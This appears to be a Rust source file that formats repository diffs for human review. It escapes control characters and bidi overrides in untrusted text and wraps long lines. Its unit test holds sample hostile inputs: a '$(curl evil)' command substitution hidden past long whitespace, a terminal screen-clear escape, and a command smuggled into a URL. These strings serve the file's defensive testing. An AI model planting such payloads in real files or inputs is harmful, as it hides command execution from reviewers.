//! How what was found is set for a person: it is strangers' text, so what moves a cursor or hides is shown as an escape, and no line is
//! so long that its end isn't looked at.

use super::gather::Gathered;
use crate::list::Repo;
use crate::owners::Key;
use crate::text::{escaped, one_line};
use crate::words::Commit;

/// The longest piece of a line, in characters: what is longer goes on in the next one.
const PIECE: usize = 240;

/// What a person reads of a change, from the approved commit, or nothing, to the newest one.
pub fn page(
    repo: &Repo,
    approved: Option<&Commit>,
    tip: &Commit,
    gathered: &Gathered,
    look_at: &[String],
) -> String {
    let (name, publish_to) = (Key::of(repo).name(), &repo.publish_to);
    let mut page = format!("==> {name} for the repository {publish_to}\n");
    page += &format!(
        "    approved: {}\n",
        approved.map_or("nothing", Commit::as_str)
    );
    page += &format!("    to approve: {tip}\n");
    if approved.is_some() && gathered.before.is_none() {
        page += "    what was approved is gone from there, so all of it is shown\n";
    }
    if let Some(count) = gathered.count {
        page += &format!("    commits since then: {count}\n");
    }
    if !look_at.is_empty() {
        page += "look at\n";
        page.extend(look_at.iter().map(|it| format!("  - {it}\n")));
    }
    if !gathered.commits.is_empty() {
        page += "commits\n";
        let commits = gathered.commits.iter();
        page.extend(commits.map(|it| format!("  {}\n", one_line(&it.text, 500))));
    }
    for shown in &gathered.files {
        page += &format!("\n{}\n", one_line(&shown.file.path, 500));
        let [before, after] = &shown.file.modes;
        if before != after {
            page += &format!("  mode {before} before, {after} now\n");
        }
        if !shown.hidden.is_empty() {
            page += &format!("  not shown as it is: {}\n", one_line(&shown.hidden, 200));
        }
        if !shown.diff.is_empty() {
            page += &lines(&shown.diff);
        }
    }
    if gathered.is_cut {
        page += "\nthere are more files, which aren't shown\n";
    }
    page += "\n";
    page
}

/// Strangers' lines, escaped, and cut into pieces.
fn lines(text: &str) -> String {
    let mut shown = String::new();
    for line in text.trim_end_matches('\n').split('\n') {
        let line: Vec<char> = escaped(line).chars().collect();
        let mut pieces = line.chunks(PIECE).map(String::from_iter);
        shown += &format!("  {}\n", pieces.next().unwrap_or_default());
        for piece in pieces {
            shown += &format!("  \u{21aa} {piece}\n");
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_end_of_a_long_line_is_seen_and_nothing_is_masked_or_moves() {
        let hidden = format!("a{}$(curl evil)", " ".repeat(PIECE));
        let shown = lines(&format!(
            "{hidden}\n\u{1b}[2J\r\u{202e}\tb\nhttps://$(id)@x\n\n"
        ));
        let expected = format!(
            "  a{}\n  \u{21aa}  $(curl evil)\n  \\u{{1b}}[2J\\u{{d}}\\u{{202e}}\tb\n  https://$(id)@x\n",
            " ".repeat(PIECE - 1)
        );
        assert_eq!(shown, expected);
    }
}
